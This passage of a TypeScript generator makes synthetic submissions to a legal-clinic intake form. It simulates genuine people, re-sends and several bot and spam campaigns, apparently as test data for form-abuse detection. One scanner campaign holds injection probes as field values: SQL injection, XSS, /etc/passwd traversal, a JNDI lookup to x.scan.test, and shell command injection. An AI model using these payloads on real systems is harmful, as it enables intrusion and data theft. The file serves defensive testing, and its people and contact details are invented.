  return `${dice.one(['5.188', '45.134', '45.88', '185.220', '193.32', '146.70', '167.99', '138.68', '91.210', '92.118', '104.248'])}.${dice.between(0, 255)}.${dice.between(1, 254)}`;
}

/** Addresses that many people share: a university, offices, a hospital, a library, mobile carriers and two VPNs. */
const sharedNetworks: readonly (readonly [number, string])[] = [
  [9, '198.51.100.4'],
  [5, '198.51.100.77'],
  [4, '198.51.100.130'],
  [4, '203.0.113.9'],
  [3, '203.0.113.61'],
  [10, '172.58.14.201'],
  [9, '172.58.14.202'],
  [7, '174.204.9.88'],
  [6, '192.0.2.15'],
  [4, '192.0.2.16'],
];
const vpnExits = ['192.0.2.15', '192.0.2.16'];

/** @returns a second of the day: few at night, most between nine and five, some in the evening */
function waking(dice: Dice): number {
  const hour = dice.weighted<number>([
    [1, 0],
    [1, 3],
    [2, 6],
    [6, 8],
    [9, 10],
    [9, 12],
    [9, 14],
    [7, 16],
    [6, 18],
    [6, 20],
    [3, 22],
  ]);
  return Math.min(day - 2400, hour * 3600 + dice.between(0, 7199));
}

/** @returns how long a person keeps the page open before sending the form */
function dwell(dice: Dice, length: number): number {
  return dice.weighted<() => number>([
    [length < 160 ? 13 : 5, () => dice.between(4, 16)],
    [length < 160 ? 38 : 12, () => dice.between(17, 90)],
    [34, () => dice.between(60, 240) + Math.floor(length / dice.between(2, 6))],
    [12, () => dice.between(600, 3600)],
    [5, () => dice.between(3600, 30_000)],
    [2, () => dice.between(30_000, 90_000)],
    // The clock of the computer that rendered the page ran ahead.
    [1, () => -dice.between(1, 240)],
  ])();
}

// People who send genuine messages.

interface Person {
  first: string;
  last: string;
  languages: string;
  message: string;
  phone: string;
  abroad: boolean;
}

/** @returns the text that replaces the placeholders for the writer's name and phone number in a template */
function ownWords(first: string, last: string, number: string): Record<string, string> {
  return { me: first, family: last, number };
}

/** Types as people in a hurry do: neighboring letters change places or drop out, apostrophes and capitals are left out. */
function hurried(dice: Dice, text: string): string {
  const words = text.split(' ').map((word) => {
    if (!/^[a-z]{5,}$/.test(word) || !dice.chance(0.14)) return word;
    const at = dice.between(1, word.length - 3);
    return dice.chance(0.6)
      ? word.slice(0, at) + word.charAt(at + 1) + word.charAt(at) + word.slice(at + 2)
      : word.slice(0, at) + word.slice(at + 1);
  });
  const typed = words.join(' ');
  return dice.chance(0.6) ? typed.toLowerCase().replaceAll(/['’]/g, '') : typed;
}

const voices: readonly (readonly [RegExp, readonly string[]])[] = [
  [/\bI am\b/g, ["I'm", 'Im', 'I am']],
  [/\bcannot\b/g, ["can't", 'can not', 'cant', 'am not able to']],
  [/\bdo not\b/g, ["don't", 'dont']],
  [/\bdid not\b/g, ["didn't", 'didnt']],
  [/\bwill not\b/g, ["won't", 'refuses to', 'wont']],
  [/\b(?:they|They) say\b/g, ['they told me', 'they are saying', 'they said']],
  [/\bbecause\b/g, ['since', 'bc', 'because', 'as']],
  [/\bit is\b/g, ["it's", 'its']],
  [/\bwithout\b/g, ['w/o', 'without']],
  [/\bpeople\b/g, ['folks', 'people']],
  [/\bmy (son|daughter|mother|father|husband|wife|brother)\b/g, ['my poor $1', 'my $1', 'our $1', 'my own $1']],
  [/\bnobody\b/g, ['no one', 'not a soul', 'nobody']],
  [/(?<!,) and /g, [' and ', ', and ', ' & ', ' and also ', ' n ']],
  [/, /g, [', ', ', ', '. ', ' - ', '... ', ' ']],
  [/\bI (have|got|want|need|was|had|know)\b/g, ['I $1', 'I $1', 'I honestly $1', 'we $1', 'I just $1']],
  [/\b(?:the|The) (?=[a-z])/g, ['the ', 'the ', 'that ', 'this ', '']],
  [/\b(was|is|are) (?=[a-z]{4})/g, ['$1 ', '$1 ', '$1 like ', '$1 basically ', '$1 now ']],
];

/** Rewords a sentence for one person, because no two people use the same words. */
function ownVoice(dice: Dice, sentence: string): string {
  if (sentence.includes('://')) return sentence;
  return voices.reduce(
    (text, [form, ways]) =>
      text.replace(form, (found: string, part: unknown) =>
        dice.chance(0.5) ? dice.one(ways).replace('$1', String(part)) : found,
      ),
    sentence,
  );
}

/** Writes the messages of all people, no message twice. */
class People {
  readonly #dice: Dice;
  readonly #written = new Set<string>();
  readonly #areas: Deck<string>;
  readonly #troubles = new Map<string, Deck<string>>();
  readonly #shorts: Deck<string>;
  readonly #spanish: Deck<string>;
  readonly #spanishShorts: Deck<string>;
  readonly #arabic: Deck<string>;
  readonly #others: Deck<{ tongue: Tongue; message: string }>;
  readonly #evidence: Deck<string>;

  constructor(dice: Dice) {
    this.#dice = dice;
    this.#areas = new Deck(dice, Object.keys(areas));
    for (const [area, { troubles }] of Object.entries(areas)) this.#troubles.set(area, new Deck(dice, troubles));
    this.#shorts = new Deck(dice, shorts);
    this.#spanish = new Deck(dice, spanishTroubles);
    this.#spanishShorts = new Deck(dice, spanishShorts);
    this.#arabic = new Deck(dice, arabicTroubles);
    this.#others = new Deck(
      dice,
      tongues.flatMap((tongue) => tongue.messages.map((message) => ({ tongue, message }))),
    );
    this.#evidence = new Deck(dice, evidence);
  }

  #unwritten(compose: () => string): string {
    for (let tries = 0; tries < 500; tries += 1) {
      const text = compose().trim();
      if (this.#written.has(text)) continue;
      this.#written.add(text);
      return text;
    }
    throw new Error('no new message to be made up');
  }

  next(): Person {
    const dice = this.#dice;
    return dice.weighted<() => Person>([
      [68, () => this.#english()],
      [17, () => this.#inSpanish()],
      [7, () => this.#inArabic()],
      [8, () => this.#inOther()],
    ])();
  }

  #english(): Person {
    const dice = this.#dice;
    const first = dice.one(firstNames);
    const last = dice.one(lastNames);
    const number = phone(dice);
    const own = ownWords(first, last, number);
    const message = this.#unwritten(() =>
      dice.weighted<() => string>([
        [17, () => write(dice, this.#shorts.deal(), own)],
        [57, () => this.#story(own, 1)],
        [18, () => this.#story(own, 2)],
        [5, () => this.#account(own, dice.between(3, 6), 2)],
        [3, () => this.#account(own, dice.between(8, 20), dice.between(4, 9))],
      ])(),
    );
    return {
      first,
      last,
      phone: number,
      languages: dice.weighted([
        [20, 'en-US,en;q=0.9'],
        [6, 'en-US,en;q=0.5'],
        [1, 'en-GB,en-US;q=0.9,en;q=0.8'],
        [2, 'en-US,en;q=0.9,es;q=0.8'],
        [1, 'en-US'],
      ]),
      message,
      abroad: false,
    };
  }

  #parts(
    self: Record<string, string>,
    details: number,
  ): { opening: string; trouble: string; details: string[]; ask: string; goodbye: string } {
    const dice = this.#dice;
    const area = this.#areas.deal();
    const own = areas[area]?.details ?? [];
    return {
      opening: write(dice, dice.one(openings), self),
      trouble: ownVoice(dice, write(dice, this.#troubles.get(area)?.deal() ?? '', self)),
      details: dice
        .shuffled(own)
        .slice(0, details)
        .map((detail) => ownVoice(dice, write(dice, detail, self))),
      ask: write(dice, dice.one(asks), self),
      goodbye: write(dice, dice.one(goodbyes), self),
    };
  }

  /** Returns what some people add to a message: links with a reason, a quoted email, an emoji. */
  #additions(): string[] {
    const dice = this.#dice;
    const added: string[] = [];
    if (dice.chance(0.13)) {
      const links = dice.weighted<number>([
        [7, 1],
        [2, 2],
        [1, 3],
      ]);
      for (let link = 0; link < links; link += 1) added.push(write(dice, this.#evidence.deal()));
    }
    if (dice.chance(0.06)) added.push(write(dice, dice.one(quotes)));
    if (dice.chance(0.06)) added.push(dice.one(['😢', '🙏🙏', '😡😡😡', '❤️', '🤕', '🙏🏽 thank you', '😬']));
    return added;
  }

  #story(own: Record<string, string>, details: number): string {
    const dice = this.#dice;
    const parts = this.#parts(own, dice.between(details - 1, details + 1));
    const middle = dice.chance(0.15) ? [...parts.details, parts.trouble] : [parts.trouble, ...parts.details];
    const pieces = dice.chance(0.1)
      ? [parts.opening, parts.ask, ...middle, ...this.#additions()]
      : [parts.opening, ...middle, ...this.#additions(), parts.ask, parts.goodbye];
    const text = pieces
      .filter((piece) => piece !== '')
      .join(
        dice.weighted([
          [7, ' '],
          [2, '\n'],
          [2, '\n\n'],
        ]),
      );
    return dice.weighted<() => string>([
      [72, () => text],
      [6, () => text.toUpperCase()],
      [18, () => hurried(dice, text)],
      [3, () => text.replaceAll(/[.,]/g, '').replaceAll('\n', ' ')],
      [2, () => `${text}!!!!`],
    ])();
  }

  /** Writes a long message with a list of what happened when. */
  #account(own: Record<string, string>, lines: number, thoughts: number): string {
    const dice = this.#dice;
    const parts = this.#parts(own, 4);
    const list = dice
      .shuffled(events)
      .slice(0, lines)
      .map((event) => `${write(dice, '<date>')}${dice.one([' - ', ': ', ' – '])}${write(dice, event)}`);
    const more = dice
      .shuffled(afterthoughts)
      .slice(0, thoughts)
      .map((thought) => ownVoice(dice, write(dice, thought, own)));
    return [
      parts.opening,
      `${parts.trouble} ${parts.details.join(' ')}`,
      ...more.slice(0, 2),
      list.join('\n'),
      ...more.slice(2),
      ...this.#additions(),
      parts.ask,
      parts.goodbye,
    ]
      .filter((piece) => piece !== '')
      .join('\n\n');
  }

  #inSpanish(): Person {
    const dice = this.#dice;
    const first = dice.chance(0.2) ? `${dice.one(spanishFirst)} ${dice.one(spanishFirst)}` : dice.one(spanishFirst);
    const last = dice.chance(0.35) ? `${dice.one(spanishLast)} ${dice.one(spanishLast)}` : dice.one(spanishLast);
    const number = phone(dice);
    const own = ownWords(first, last, number);
    const message = this.#unwritten(() => {
      if (dice.chance(0.14)) return write(dice, this.#spanishShorts.deal(), own);
      const text = [
        write(dice, dice.one(spanishOpenings), own),
        write(dice, this.#spanish.deal()),
        write(dice, dice.one(spanishDetails), own),
        dice.chance(0.05) ? write(dice, 'Aquí están las fotos https://photos.example/a/<code>') : '',
        write(dice, dice.one(spanishAsks)),
      ]
        .filter((piece) => piece !== '')
        .join(' ');
      const plain = dice.chance(0.25)
        ? text
            .normalize('NFD')
            .replaceAll(/[\u0300-\u036f¿¡]/g, '')
            .toLowerCase()
        : text;
      return dice.chance(0.09) ? plain.toUpperCase() : plain;
    });
    return {
      first,
      last,
      phone: number,
      languages: dice.one([
        'es-US,es;q=0.9,en;q=0.8',
        'es-MX,es;q=0.9',
        'es-419,es;q=0.9',
        'en-US,en;q=0.9,es;q=0.8',
        'es-ES,es;q=0.9,en;q=0.5',
      ]),
      message,
      abroad: dice.chance(0.08),
    };
  }

  #inArabic(): Person {
    const dice = this.#dice;
    const number = phone(dice);
    const message = this.#unwritten(() =>
      [dice.one(arabicOpenings), write(dice, this.#arabic.deal()), write(dice, dice.one(arabicAsks), { number })]
        .filter((piece) => piece !== '')
        .join(dice.one([' ', '\n'])),
    );
    const latin = dice.chance(0.6);
    return {
      first: dice.one(latin ? arabicLatin : arabicFirst),
      last: dice.one(latin ? arabicLatinLast : arabicLast),
      phone: number,
      languages: dice.one([
        'ar,en-US;q=0.9,en;q=0.8',
        'ar-EG,ar;q=0.9,en;q=0.8',
        'en-US,en;q=0.9,ar;q=0.8',
        'ar-SA,ar;q=0.9',
      ]),
      message,
      abroad: dice.chance(0.15),
    };
  }

  #inOther(): Person {
    const dice = this.#dice;
    const { tongue, message } = this.#others.deal();
    const first = dice.one(tongue.first);
    const last = dice.one(tongue.last);
    const number = phone(dice);
    const text = this.#unwritten(() => {
      const written = write(dice, message, { number });
      return this.#written.has(written) ? `${written} ${first}${dice.chance(0.5) ? ` ${last}` : ''}` : written;
    });
    return { first, last, languages: tongue.languages, message: text, phone: number, abroad: dice.chance(0.15) };
  }

  /** Returns a colleague who lost a job on the same day and tells the same events in other words. */
  colleague(): Person {
    const dice = this.#dice;
    const number = phone(dice);
    const message = this.#unwritten(() =>
      write(
        dice,
        `${dice.one(['', 'Hi.', '<name> from second shift gave me your link.', 'I heard you talk to people from the plant.', 'Hello,'])} ${dice.one(
          [
            'I {got laid off|lost my job|was let go} at Summit Steel {today|this morning} with everybody else',
            'They closed the Summit Steel plant {today|with no notice} and walked us out',
            'Summit Steel, {line <n>|shipping|the melt shop|QA}, <m> years, out the door {today|at <time>}',
            'I am one of the Summit people',
            'about Summit Steel. no 60 day notice, no severance',
          ],
        )}. ${dice.one([
          'I am owed <money> in vacation.',
          'My insurance ends on {Friday|the 31st}.',
          'They want us to sign a paper by <weekday>.',
          'I had <n> years to my pension.',
          'wife is due in <month>.',
          'I never got anything in writing.',
        ])} ${dice.one(['', 'Count me in.', 'Call me <number>', 'Is there a group case?', 'thanks'])}`,
        { number },
      ),
    );
    return {
      first: dice.one(firstNames),
      last: dice.one(lastNames),
      languages: 'en-US,en;q=0.9',
      message,
      phone: number,
      abroad: false,
    };
  }
}

function latinLetters(text: string): string {
  return text
    .normalize('NFD')
    .toLowerCase()
    .replaceAll(/[^a-z]/g, '');
}

function mailOf(dice: Dice, first: string, last: string): string {
  const given = latinLetters(first) || dice.one(['user', 'my', 'mail', 'k']) + dice.letters(4);
  const family = latinLetters(last) || dice.letters(5);
  const local = dice.one([
    `${given}.${family}`,
    `${given}${family}`,
    `${given.slice(0, 1)}${family}${dice.digits(2)}`,
    `${given}${dice.between(1955, 2006)}`,
    `${family}_${given}`,
    `${family}${given.slice(0, 1)}`,
    `${given}.${family}${dice.digits(3)}`,
    `${given}${family}+legal`,
    `${dice.one(['lil', 'mama', 'bigdog', 'sk8er', 'fishing', 'nurse', 'jesusfreak'])}${given}${dice.digits(2)}`,
  ]);
  return dice.weighted([
    [88, `${local}@${dice.one(mailHosts)}`],
    // Relay and disposable email addresses of people who want to stay private.
    [4, `${dice.letters(3)}${dice.digits(2)}_${dice.letters(5)}@relay.mailshield.example`],
    [2, `throwaway.${dice.letters(4)}${dice.digits(4)}@tempinbox.example`],
    [4, `${given}@${dice.one(trades)}${dice.one(['-llc', 'group', 'builders', 'cafe'])}.example`],
    [2, `${given.slice(0, 1)}${family}@students.stateuniversity.example`],
  ]);
}

function fieldsOf(dice: Dice, person: Person): Fields {
  const fields: Fields = { first_name: person.first, last_name: person.last };
  const reach = dice.weighted([
    [58, 'both'],
    [19, 'phone'],
    [21, 'mail'],
    [2, 'neither'],
  ]);
  if (reach === 'both' || reach === 'mail') fields.email = mailOf(dice, person.first, person.last);
  if (reach === 'both' || reach === 'phone') {
    fields.phone_number = person.abroad
      ? `+${dice.one(['52', '503', '504', '20', '962', '49', '33', '63'])} ${dice.digits(3)} ${dice.digits(3)} ${dice.digits(4)}`
      : dice.weighted([
          [94, person.phone],
          [3, `${person.phone} ask for ${dice.one(firstNames)}`],
          [3, `c ${person.phone} w ${phone(dice)}`],
        ]);
  }
  // Browsers send an empty field as an empty text; apps and the form's script leave the field out.
  if (dice.chance(0.6)) {
    fields.email ??= '';
    fields.phone_number ??= '';
  }
  const naming = dice.weighted([
    [78, 'plain'],
    [8, 'lower'],
    [4, 'upper'],
    [5, 'one'],
    [3, 'all in one'],
    [2, 'initial'],
  ]);
  if (naming === 'lower')
    Object.assign(fields, { first_name: person.first.toLowerCase(), last_name: person.last.toLowerCase() });
  if (naming === 'upper')
    Object.assign(fields, { first_name: person.first.toUpperCase(), last_name: person.last.toUpperCase() });
  if (naming === 'one') fields.last_name = dice.one(['', '.', '-', 'x']);
  if (naming === 'all in one')
    Object.assign(fields, { first_name: `${person.first} ${person.last}`, last_name: dice.one(['', person.last]) });
  if (naming === 'initial') fields.last_name = person.last.slice(0, 1);
  fields.from_message = person.message;
  return fields;
}

function networkOf(dice: Dice, person: Person): string {
  if (person.abroad) return foreignNetwork(dice);
  return dice.chance(0.26) ? dice.weighted(sharedNetworks) : homeNetwork(dice);
}

function manners(dice: Dice, languages: string, script: boolean): Manner {
  const manner: Manner = { languages, without: [] };
  if (script && dice.chance(0.5)) manner.fetched = true;
  if (dice.chance(0.33)) manner.frame = true;
  // Some websites put the form into a sandboxed frame or behind a redirect, so that the browser sends sec-fetch-site:
  // cross-site.
  if (manner.frame === true && dice.chance(0.3)) {
    manner.site = 'cross-site';
    if (dice.chance(0.25)) manner.without?.push('origin', 'referer');
  } else if (dice.chance(0.05)) manner.without?.push('referer', ...(dice.chance(0.4) ? (['origin'] as const) : []));
  if (dice.chance(0.03)) manner.without?.push('language');
  return manner;
}

function sendByPerson(dice: Dice, kind: 'person with script' | 'person without script', person: Person): MadeUp {
  const script = kind === 'person with script';
  const browser = script
    ? dice.weighted<() => Browser>([
        [95, () => modernBrowser(dice)],
        [5, () => oldBrowser(dice)],
      ])()
    : // Most of them use the same browsers as everyone else: the script was blocked, or was lost on a weak connection.
      dice.weighted<() => Browser>([
        [62, () => modernBrowser(dice)],
        [14, () => oldBrowser(dice)],
        [12, () => plainBrowser(dice)],
        [12, () => firefox(dice, 'Windows NT 10.0', 128)],
      ])();
  const seconds = dwell(dice, person.message.length);
  return {
    kind,
    at: waking(dice),
    network: networkOf(dice, person),
    page: {
      seconds,
      script,
      work: script && browser.recent && !dice.chance(0.02) ? 'done' : 'missing',
      // A password manager or a screen reader's form mode occasionally fills in the hidden field.
      trapped: dice.chance(0.006),
    },
    headers: browserHeaders(browser, manners(dice, person.languages, script && browser.recent)),
    fields: fieldsOf(dice, person),
  };
}

/** Returns a submission that a person sends again, by pressing the button again or from another device. */
function sentAgain(dice: Dice, sent: MadeUp, again: number): MadeUp {
  if (dice.chance(0.5) && sent.page !== null) {
    const later = dice.between(1, 25);
    sent.page.shared = `second half: pressed again ${again}`;
    return { ...sent, at: sent.at + later, page: { ...sent.page, seconds: sent.page.seconds + later } };
  }
  const later = dice.between(120, 2300);
  const script = sent.kind === 'person with script';
  const message = sent.fields.from_message ?? '';
  return {
    ...sent,
    at: sent.at + later,
    network: dice.chance(0.4) ? sent.network : homeNetwork(dice),
    page: { seconds: dice.between(20, 110), script, work: script ? 'done' : 'missing', trapped: false },
    headers: browserHeaders(
      modernBrowser(dice),
      manners(dice, sent.headers['accept-language'] ?? 'en-US,en;q=0.9', script),
    ),
    fields: {
      ...sent.fields,
      from_message: dice.one([
        message,
        `${message} ${dice.one(['(sent twice, sorry)', 'did you get this?', '- second try', '!!'])}`,
        `I wrote before. ${message}`,
      ]),
    },
  };
}

function people(dice: Dice, writer: People, kind: 'person with script' | 'person without script'): MadeUp[] {
  const sent: MadeUp[] = [];
  const script = kind === 'person with script';

  // When a plant closes, its workers send the form from the plant's network and from their phones within two hours.
  for (let worker = 0; worker < (script ? 12 : 5); worker += 1) {
    const one = sendByPerson(dice, kind, writer.colleague());
    sent.push({
      ...one,
      at: 50_000 + dice.between(0, 7200),
      network: dice.chance(0.7) ? '203.0.113.200' : homeNetwork(dice),
    });
  }

  // Visitors of a legal clinic share one tablet, and each visitor goes back to one rendering of the form's page.
  if (script) {
    const tablet = safari(dice, 'iPad');
    const start = 36_000;
    for (let visitor = 0; visitor < 6; visitor += 1) {
      const one = sendByPerson(dice, kind, writer.next());
      const at = start + visitor * 1500 + dice.between(0, 900);
      const page: PageUse = {
        seconds: at - start + 240,
        script,
        work: 'done',
        trapped: false,
        shared: 'second half: clinic tablet',
      };
      sent.push({
        ...one,
        at,
        network: '203.0.113.33',
        page,
        headers: browserHeaders(tablet, { languages: 'en-US,en;q=0.9' }),
      });
    }
  } else {
    // These people never requested Foyer's page: a firm's old website has its own form, which posts to Foyer.
    for (let visitor = 0; visitor < 4; visitor += 1) {
      const one = sendByPerson(dice, kind, writer.next());
      const headers = browserHeaders(modernBrowser(dice), { languages: 'en-US,en;q=0.9', site: 'cross-site' });
      sent.push({
        ...one,
        page: null,
        headers: {
          ...headers,
          origin: 'https://www.bakerandhall-law.example',
          referer: 'https://www.bakerandhall-law.example/',
        },
      });
    }
    // These people had saved the page or received it by email, and opened the file.
    for (let visitor = 0; visitor < 3; visitor += 1) {
      const one = sendByPerson(dice, kind, writer.next());
      const headers = browserHeaders(modernBrowser(dice), {
        languages: 'en-US,en;q=0.9',
        site: 'cross-site',
        without: ['origin', 'referer'],
      });
      sent.push({
        ...one,
        page: { seconds: dice.between(3000, 200_000), script, work: 'missing', trapped: false },
        headers,
      });
    }
  }

  let again = 0;
  while (sent.length < perKind) {
    const one = sendByPerson(dice, kind, writer.next());
    sent.push(one);
    if (sent.length < perKind && dice.chance(0.055)) {
      again += 1;
      sent.push(sentAgain(dice, one, script ? again : again + 100));
    }
  }
  return sent;
}

// Programs that flood a form.

interface Campaign {
  posts: number;
  /** The first and the last second of the day at which the spam campaign runs. */
  from: number;
  until: number;
  network: (post: number) => string;
  page: (post: number, at: number) => PageUse | null;
  headers: (post: number) => Headers;
  fields: (post: number) => Fields;
}

const lorem = (
  'lorem ipsum dolor sit amet consectetur adipiscing elit sed do eiusmod tempor incididunt ut labore et dolore magna aliqua enim ad minim ' +
  'veniam quis nostrud exercitation ullamco laboris nisi aliquip ex ea commodo consequat duis aute irure in reprehenderit voluptate velit'
).split(' ');

function loremText(dice: Dice, words: number): string {
  const text = Array.from({ length: words }, () => dice.one(lorem)).join(' ');
  return `${text.charAt(0).toUpperCase()}${text.slice(1)}.`;
}

function mixedCase(dice: Dice, count: number): string {
  return dice.letters(count, 'abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ');
}

function oldChrome(dice: Dice): string {
  return `Mozilla/5.0 (${dice.one(['Windows NT 6.1; Win64; x64', 'Windows NT 10.0; WOW64', 'Windows NT 10.0; Win64; x64', 'X11; Linux x86_64'])}) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/${dice.between(56, 109)}.0.${dice.between(2900, 5400)}.${dice.between(40, 150)} Safari/537.36`;
}

/** @returns the headers of a bot that claims to be a browser but sends few of the browser's headers */
function pretended(dice: Dice): Headers {
  return {
    'user-agent': oldChrome(dice),
    accept: dice.one([
      acceptPlain,
      '*/*',
      'text/html,application/xhtml+xml,application/xml;q=0.9,image/webp,*/*;q=0.8',
    ]),
    ...(dice.chance(0.6)
      ? { 'accept-language': dice.one(['en-US,en;q=0.5', 'en', 'ru-RU,ru;q=0.8,en-US;q=0.5', 'en-US,en;q=0.9']) }
      : {}),
    ...(dice.chance(0.7) ? { referer: dice.one([formPage, `${foyer}/`, formPage]) } : {}),
    ...(dice.chance(0.3) ? { origin: foyer } : {}),
    'accept-encoding': dice.one(['gzip, deflate', 'gzip', 'identity']),
  };
}

function floodCampaigns(dice: Dice): Campaign[] {
  const onceFetched = dice.between(30_000, 40_000);
  const rented = rentedServer(dice);
  const block = `45.148.${dice.between(1, 254)}`;
  const replay = rentedServer(dice);
  const gibberishPairs = Array.from(
    { length: 26 },
    () => [mixedCase(dice, dice.between(8, 16)), mixedCase(dice, dice.between(8, 16))] as const,
  );
  const fakeHurt = new Deck(dice, [
    'car accident',
    'truck accident',
    'work injury',
    'slip and fall',
    'dog bite',
    'motorcycle crash',
  ]);
  return [
    {
      // A curl loop that repeats one text.
      posts: 38,
      from: 10_800,
      until: 11_100,
      network: () => rented,
      page: () => null,
      headers: () => ({ 'user-agent': 'curl/8.5.0', accept: '*/*' }),
      fields: (post) => ({
        first_name: 'test',
        last_name: `user${post}`,
        email: `test${post}@mailbox.test`,
        phone_number: '5555555555',
        from_message: dice.one(['hello', 'test message', 'i need legal help', `test ${post}`]),
      }),
    },
    {
      // python-requests from a block of addresses, which fetches the page to get its hidden fields.
      posts: 30,
      from: 52_000,
      until: 54_600,
      network: () => `${block}.${dice.between(2, 250)}`,
      page: () => ({ seconds: dice.between(0, 2), script: false, work: 'missing', trapped: dice.chance(0.5) }),
      headers: () => ({
        'user-agent': 'python-requests/2.31.0',
        accept: '*/*',
        'accept-encoding': 'gzip, deflate',
        ...(dice.chance(0.5) ? { referer: formPage } : {}),
      }),
      fields: () => {
        const first = dice.one(firstNames);
        const last = dice.one(lastNames);
        return {
          first_name: first,
          last_name: last,
          email: `${latinLetters(first)}${latinLetters(last)}${dice.digits(4)}@gmail.example`,
          phone_number: dice.digits(10),
          from_message: write(
            dice,
            '{Hello|Hi|Hey}, I {am interested in|want to know about|have a question about} your {services|offers|company}. {Please|Kindly} {contact|call|reply to} me.',
          ),
        };
      },
    },
    {
      // A Go program behind residential proxies that posts about every half hour.
      posts: 26,
      from: 600,
      until: 85_000,
      network: () => (dice.chance(0.5) ? homeNetwork(dice) : foreignNetwork(dice)),
      page: () => null,
      headers: () => ({
        'user-agent': dice.chance(0.5) ? 'Go-http-client/1.1' : oldChrome(dice),
        'accept-encoding': 'gzip',
      }),
      fields: () => ({
        first_name: dice.letters(dice.between(5, 9)),
        last_name: dice.letters(dice.between(5, 9)),
        email: `${dice.letters(8)}@${dice.one(['mail.test', 'inbox.test', 'gmail.example'])}`,
        from_message: Array.from({ length: dice.between(3, 12) }, () => dice.letters(dice.between(3, 11))).join(' '),
      }),
    },
    {
      // A headless browser that loads everything, runs the script and types lorem ipsum.
      posts: 24,
      from: 70_000,
      until: 74_000,
      network: () => dice.one(['138.68.12.40', '138.68.12.41', '138.68.12.44']),
      page: () => ({ seconds: dice.between(2, 7), script: true, work: 'done', trapped: dice.chance(0.3) }),
      headers: () => {
        const browser = chrome(dice, 'windows', 'Google Chrome', 131);
        const hints = {
          'sec-ch-ua': '"HeadlessChrome";v="131", "Chromium";v="131", "Not_A Brand";v="24"',
          'sec-ch-ua-mobile': '?0',
          'sec-ch-ua-platform': '"Linux"',
        };
        return browserHeaders(
          {
            ...browser,
            hints,
            agent: browser.agent
              .replace('Windows NT 10.0; Win64; x64', 'X11; Linux x86_64')
              .replace('Chrome/', 'HeadlessChrome/'),
          },
          { languages: 'en-US', without: dice.chance(0.5) ? ['language'] : [] },
        );
      },
      fields: () => ({
        first_name: dice.one(firstNames),
        last_name: dice.one(lastNames),
        email: `${dice.one(lorem)}.${dice.one(lorem)}@${dice.one(lorem)}.example`,
        phone_number: phone(dice),
        from_message: loremText(dice, dice.between(8, 60)),
      }),
    },
    {
      // A program that fetches the page once and sends its token again and again.
      posts: 24,
      from: onceFetched,
      until: onceFetched + 9000,
      network: () => (dice.chance(0.8) ? replay : rentedServer(dice)),
      page: (_, at) => ({
        seconds: at - onceFetched + 3,
        script: false,
        work: 'missing',
        trapped: true,
        shared: 'second half: replayed page',
      }),
      headers: () => pretended(dice),
      fields: (post) => ({
        first_name: `${dice.one(firstNames)}${dice.letters(3)}`,
        last_name: `${dice.one(lastNames)}${dice.letters(3)}`,
        email: `lead${post}.${dice.digits(5)}@yahoo.example`,
        phone_number: `8${dice.digits(10)}`,
        from_message: `${dice.one(['Good day', 'Hello!', 'Hi'])} ${loremText(dice, 6)} ${dice.digits(6)}`,
      }),
    },
    {
      // Paid people or programs that invent leads, with stealth browsers and residential proxies, slowly and spread
      // over the day.
      posts: 28,
      from: 25_000,
      until: 82_000,
      network: () => homeNetwork(dice),
      page: () => ({ seconds: dice.between(14, 75), script: true, work: 'done', trapped: false }),
      headers: () =>
        browserHeaders(
          dice.chance(0.5) ? chrome(dice, 'windows') : chrome(dice, 'android'),
          manners(dice, 'en-US,en;q=0.9', true),
        ),
      fields: () => {
        const first = dice.one(firstNames);
        const last = dice.one(lastNames);
        return {
          first_name: first,
          last_name: last,
          email: `${latinLetters(first)}.${latinLetters(last)}${dice.digits(2)}@${dice.one(mailHosts)}`,
          phone_number: phone(dice),
          from_message: write(
            dice,
            `{I was|My brother was|My wife was} {involved in|hurt in|injured in} a ${fakeHurt.deal()} {on <date>|recently|last month} {in|near} <city>. {I am looking for|I need|We are seeking} {an attorney|a lawyer|legal representation} to {help with my claim|get compensation|handle my case}. {Please contact me|Please call|Reach out} {at your earliest convenience|as soon as possible|any time}.`,
          ),
        };
      },
    },
    {
      // A Node program that knows the form's hidden fields and makes up values that it cannot compute.
      posts: 18,
      from: 78_000,
      until: 80_400,
      network: () => (dice.chance(0.5) ? '91.210.44.7' : foreignNetwork(dice)),
      page: () => ({ seconds: dice.between(1, 5), script: true, work: 'made up', trapped: false }),
      headers: () => ({
        'user-agent': chrome(dice, 'windows').agent,
        accept: 'application/json, text/plain, */*',
        origin: foyer,
        referer: formPage,
        'accept-language': '*',
        'sec-fetch-mode': 'cors',
        'accept-encoding': 'gzip, deflate',
      }),
      fields: () => ({
        first_name: dice.one(firstNames),
        last_name: dice.one(lastNames),
        email: `${dice.letters(10)}@outlook.example`,
        phone_number: phone(dice),
        from_message: write(
          dice,
          '{I want|I need|I require} {a consultation|an appointment|advice} {regarding|about|on} {my case|a legal matter|the matter we spoke of}. Ref <digits>',
        ),
      }),
    },
    {
      // A scanner that searches for security holes.
      posts: 20,
      from: 14_000,
      until: 14_900,
      network: () => '193.32.126.18',
      page: (post) => (post % 4 === 0 ? { seconds: 0, script: false, work: 'missing', trapped: true } : null),
      headers: () => ({
        'user-agent':
          'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.21 (KHTML, like Gecko) Chrome/41.0.2228.0 Safari/537.21',
        accept: '*/*',
        referer: formPage,
      }),
      fields: (post) => {
        const probes = [
          "' OR '1'='1' -- ",
          '<script>alert(9041)</script>',
          '../../../../etc/passwd',
          '${jndi:ldap://x.scan.test/a}',
          '{{7*7}}',
          '1\'"()&%<acx><ScRiPt >prompt(1)</ScRiPt>',
          ';sleep 15;',
          '1 AND SLEEP(15)',
          'response.write(9233*9871)',
          '%0d%0aset-cookie:acx=1',
          '"><img src=x onerror=alert(1)>',
          '-1 OR 2+14-14-1=0+0+0+1',
          '|cat /etc/hosts',
          '@@version',
          'http://scan.test/inc?',
          '$(nslookup x.scan.test)',
        ];
        const probe = probes[post % probes.length] ?? '1';
        return {
          first_name: post % 3 === 0 ? probe : 'pHqghUme',
          last_name: post % 3 === 1 ? probe : 'pHqghUme',
          email: 'testing@scan.test',
          phone_number: '555-666-0606',
          from_message: post % 3 === 2 ? probe : '20',
        };
      },
    },
    {
      // Random letters in every field, including the hidden one, sent through proxies all day.
      posts: 26,
      from: 1200,
      until: 86_000,
      network: () => (dice.chance(0.3) ? homeNetwork(dice) : foreignNetwork(dice)),
      page: () => ({ seconds: dice.between(1, 25), script: false, work: 'missing', trapped: dice.chance(0.85) }),
      headers: () => pretended(dice),
      fields: (post) => {
